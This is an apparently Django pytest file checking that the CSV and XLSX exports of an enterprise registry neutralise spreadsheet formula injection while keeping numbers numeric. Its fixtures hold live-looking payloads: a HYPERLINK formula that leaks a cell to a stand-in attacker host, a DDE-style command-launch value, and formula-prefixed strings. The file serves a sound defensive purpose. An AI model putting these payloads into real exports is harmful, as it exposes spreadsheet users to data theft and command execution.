"""Exports never carry live formulas: text a spreadsheet would evaluate leaves as text, numbers as numbers.

Each export path is fetched through the real admin or view with hostile values stored in the registry.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from enterprises.importer import import_file
from enterprises.models import Enterprise
from evaluation.models import Assessment, SimulationJob
from evaluation.simulation import create_draft
from registry.models import Application
from tests.factories import FinancialYearFactory, UserFactory, store_profile
from tests.helpers import certify, enterprise_in, load_example, ruleset

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'
HOSTILE = {
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_name": HYPERLINK,
    "address": "+1+2",
    "contact_phone": "-2+3",
}
TAB_AND_CR = {"address": "\t=1+1", "contact_name": "\r=2+2"}


@pytest.fixture
def boss(client):
    client.force_login(UserFactory(username="boss", is_staff=True, is_superuser=True))
    return client


@pytest.fixture
def hostile():
    first = enterprise_in("330106", **HOSTILE)
    FinancialYearFactory(enterprise=first, year=2025, net_profit=Decimal("-300.50"))
    second = enterprise_in("330108", name="普通企业", **TAB_AND_CR)
    return {"first": first, "second": second}


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def assert_csv_is_inert(content: bytes, expected: list[str]) -> None:
    cells = csv_cells(content)
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    assert live == [], live
    for value in expected:
        assert "'" + value in cells, value


def assert_xlsx_is_inert(content: bytes, expected: list[str]) -> None:
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in expected:
        cell = by_value.get(value.replace("\r", "\n"))  # XML reads a carriage return as a line feed
        assert cell is not None, value  # kept character for character ...
        assert cell.data_type == "s" and cell.quotePrefix, value  # ... as text that stays text when edited


ENTERPRISE_VALUES = [*HOSTILE.values(), *TAB_AND_CR.values()]


def test_enterprise_list_csv_neutralises_formulas_and_keeps_negative_numbers(boss, hostile):
    response = boss.get(reverse("admin:enterprises_enterprise_export", args=["csv"]), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert_csv_is_inert(response.content, ENTERPRISE_VALUES)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["net_profit"] for r in rows if r["net_profit"]] == ["-300.50"]  # a number, no apostrophe


def test_enterprise_list_xlsx_has_no_formula_cells_and_numbers_stay_numbers(boss, hostile):
    response = boss.get(reverse("admin:enterprises_enterprise_export", args=["xlsx"]), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert_xlsx_is_inert(response.content, ENTERPRISE_VALUES)
    negative = [c for c in xlsx_cells(response.content) if c.value == -300.5]
    assert len(negative) == 1 and negative[0].data_type == "n"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_selected_rows_action_is_neutralised(boss, hostile, fmt):
    response = boss.post(reverse("admin:enterprises_enterprise_changelist"), {
        "action": f"export_selected_{fmt}", "_selected_action": [hostile["first"].pk, hostile["second"].pk],
    })
    assert response.status_code == 200
    check = assert_csv_is_inert if fmt == "csv" else assert_xlsx_is_inert
    check(response.content, ENTERPRISE_VALUES)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("admin_name", ["registry_application", "registry_certification", "evaluation_assessment"])
def test_application_certification_and_assessment_lists_are_neutralised(boss, hostile, fmt, admin_name):
    first = hostile["first"]
    Application.objects.create(enterprise=first, tier="innovative_sme", year=2025)
    certify(first, "innovative_sme", datetime.date(2025, 3, 1))
    Assessment.objects.create(enterprise=first, year=2025, ruleset=ruleset(), tier="innovative_sme",
                              status="passed", passed=True, score=Decimal("75"), max_score=Decimal("100"),
                              result={}, input_digest="x" * 64)
    response = boss.get(reverse(f"admin:{admin_name}_export", args=[fmt]))
    assert response.status_code == 200
    # The enterprise column is the enterprise's text, which starts with its hostile name.
    expected = [str(first)]
    check = assert_csv_is_inert if fmt == "csv" else assert_xlsx_is_inert
    check(response.content, expected)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_simulation_results_are_neutralised(boss, fmt, django_capture_on_commit_callbacks):
    at_sixty = enterprise_in("330106", name=HYPERLINK)
    store_profile(at_sixty, load_example("D"))  # innovative score exactly 60: loses the tier at 65
    base = ruleset()
    draft = create_draft(base, changes={"tiers.innovative_sme.pass_mark.value": 65})
    with django_capture_on_commit_callbacks(execute=True):
        started = boss.post(reverse("insights:simulation"),
                            {"base": base.pk, "candidate": draft.pk, "year": 2025, "city": ""})
    assert started.status_code == 302
    job = SimulationJob.objects.get()
    response = boss.get(reverse("insights:simulation_export", args=[job.pk, fmt]))
    assert response.status_code == 200
    check = assert_csv_is_inert if fmt == "csv" else assert_xlsx_is_inert
    check(response.content, [HYPERLINK])
    if fmt == "xlsx":
        scores = [c for c in xlsx_cells(response.content) if c.value == 60]
        assert scores and all(c.data_type == "n" for c in scores)  # the scores stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_imports_back_to_the_original_text(boss, hostile, fmt):
    response = boss.get(reverse("admin:enterprises_enterprise_export", args=[fmt]), HTTP_ACCEPT_LANGUAGE="en")
    Enterprise.objects.filter(pk=hostile["first"].pk).update(contact_name="changed", address="changed")
    result = import_file(response.content, f"export.{fmt}")
    assert result.ok, [str(e) for e in result.errors]
    first = Enterprise.objects.get(pk=hostile["first"].pk)
    assert (first.contact_name, first.address) == (HOSTILE["contact_name"], HOSTILE["address"])


def test_control_characters_do_not_break_the_xlsx_export(boss):
    enterprise_in("330106", name="控制\x0b字符\x01企业")
    response = boss.get(reverse("admin:enterprises_enterprise_export", args=["xlsx"]), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert "控制字符企业" in [c.value for c in xlsx_cells(response.content)]
